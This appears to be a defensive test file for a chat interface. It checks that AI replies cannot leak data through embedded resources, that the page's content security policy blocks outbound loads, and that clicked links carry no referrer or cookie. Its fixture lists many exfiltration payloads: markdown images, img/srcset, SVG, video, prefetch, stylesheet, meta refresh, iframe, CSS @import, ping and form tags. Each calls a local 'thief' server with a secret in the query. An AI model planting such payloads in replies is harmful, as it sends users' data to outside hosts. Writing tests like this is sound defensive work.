// What stands in a reply must not carry anything out by itself: a picture, a style or a prefetch is a request, and its
// address can hold whatever an agent has read.

import assert from "node:assert/strict";
import { once } from "node:events";
import http from "node:http";
import { after, before, test } from "node:test";
import { fresh, launch, reply, say, visitor } from "./lib/browser.mjs";
import { ended, Writ } from "./lib/writ.mjs";

const SECRET = "hunter2";

let browser;
let writ;
let thief;
let asked;
let address;

before(async () => {
  asked = [];
  thief = http.createServer((request, response) => {
    asked.push({ url: request.url, referer: request.headers.referer ?? null, cookie: request.headers.cookie ?? null });
    response.writeHead(200, { "Content-Type": "text/html", "Access-Control-Allow-Origin": "*" });
    response.end("<title>elsewhere</title>");
  });
  thief.listen(0, "127.0.0.1");
  await once(thief, "listening");
  address = `http://127.0.0.1:${thief.address().port}`;
  const to = (place) => `${address}/${place}?secret=${SECRET}`;
  const text = [
    `![a picture](${to("markdown")})`,
    `[![a picture in a link](${to("inner")})](${to("outer")})`,
    `![by reference][one]\n\n[one]: ${to("reference")}`,
    `<img src="${to("img")}" srcset="${to("srcset")} 2x"> <picture><source srcset="${to("source")}"></picture>`,
    `<svg><image href="${to("svg")}"/></svg> <video poster="${to("poster")}" src="${to("video")}"></video>`,
    `<link rel="prefetch" href="${to("prefetch")}"> <link rel="stylesheet" href="${to("sheet")}">`,
    `<meta http-equiv="refresh" content="0;url=${to("refresh")}"> <iframe src="${to("frame")}"></iframe>`,
    `<style>@import "${to("import")}"; body { background: url("${to("background")}") }</style>`,
    `<a href="${to("ping")}" ping="${to("pinged")}">ping</a> <form action="${to("form")}"><input autofocus></form>`,
    `![own](/api/v1/logout) ![data](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"/>)`,
    `${to("bare")} <${to("angle")}>`,
    "\nThat is all of it.",
  ].join("\n\n");
  browser = await launch();
  writ = await Writ.start([{ when: "show me a picture", replies: [{ text }] }]);
});

after(() => ended(browser, writ, thief));

/** Threat 13: an address of a picture in a reply. */
test("a reply with pictures of another server asks nobody, streaming, complete and loaded again", async () => {
  const me = await visitor(browser, writ);
  const page = await me.open();
  await fresh(page);
  await say(page, "Please show me a picture");
  await reply(page, "That is all of it.").waitFor();
  const made = () => page.locator(".turn .reply").evaluate((node) =>
    [...node.querySelectorAll("*")].map((one) => one.tagName.toLowerCase()).filter((name) => ["img", "image", "picture", "source", "video", "link", "meta", "iframe", "style", "form", "input", "object", "embed"].includes(name)));
  assert.deepEqual(await made(), [], "no element that loads anything");
  await page.reload();
  await reply(page, "That is all of it.").waitFor();
  await page.evaluate(() => new Promise((done) => requestIdleCallback(done)));
  assert.deepEqual(asked, []);
  const links = await page.locator(".turn .reply a").evaluateAll((all) => all.map((one) => [one.rel, one.target, one.getAttribute("ping")]));
  assert.ok(links.length > 3);
  for (const link of links) assert.deepEqual(link, ["noopener noreferrer", "_blank", null]);
  // The page still works: nothing of the reply was followed on this server either.
  await page.locator("body[data-link=open]").waitFor();
  await me.close();
});

/** The second wall: what would load all the same is refused by the browser. */
test("the page's policy refuses what a reply could make it load", async () => {
  const me = await visitor(browser, writ, { refused: /Content Security Policy|violates|ERR_BLOCKED_BY_CSP/ });
  const page = await me.open();
  const refused = await page.evaluate(async (to) => {
    const seen = new Set();
    const all = new Promise((done) => {
      document.addEventListener("securitypolicyviolation", (event) => {
        seen.add(event.effectiveDirective);
        if (seen.size >= 6) done();
      });
    });
    const add = (tag, props) => document.body.append(Object.assign(document.createElement(tag), props));
    add("img", { src: `${to}/img` });
    add("iframe", { src: `${to}/frame` });
    add("link", { rel: "stylesheet", href: `${to}/sheet` });
    add("script", { src: `${to}/script` });
    add("video", { src: `${to}/video` });
    fetch(`${to}/fetch`).catch(() => {});
    await all;
    return [...seen].sort();
  }, address);
  assert.deepEqual(refused, ["connect-src", "frame-src", "img-src", "media-src", "script-src-elem", "style-src-elem"]);
  assert.deepEqual(asked, [], "none of them has left");
  me.problems.splice(0, me.problems.length, ...me.problems.filter((problem) => !problem.startsWith(`asked for ${address}`)));
  await me.close();
});

/** Twin: a person who clicks on a link gets there, and takes nothing of the page along. */
test("a link that is clicked opens, without a referrer and without the page's cookie", async () => {
  const me = await visitor(browser, writ);
  const page = await me.open();
  await fresh(page);
  await say(page, "Please show me a picture");
  await reply(page, "That is all of it.").waitFor();
  const link = page.locator(".turn .reply a", { hasText: "a picture" }).first();
  assert.match(await link.innerText(), /127\.0\.0\.1/, "it says where it leads");
  const [opened] = await Promise.all([me.context.waitForEvent("page"), link.click()]);
  await opened.waitForLoadState();
  assert.equal(await opened.title(), "elsewhere");
  assert.equal(await opened.evaluate(() => window.opener), null);
  assert.deepEqual(asked.filter(({ url }) => !url.endsWith("favicon.ico")), [{ url: `/markdown?secret=${SECRET}`, referer: null, cookie: null }]);
  me.problems.splice(0, me.problems.length, ...me.problems.filter((problem) => !problem.startsWith(`asked for ${address}`)));
  await me.close();
});
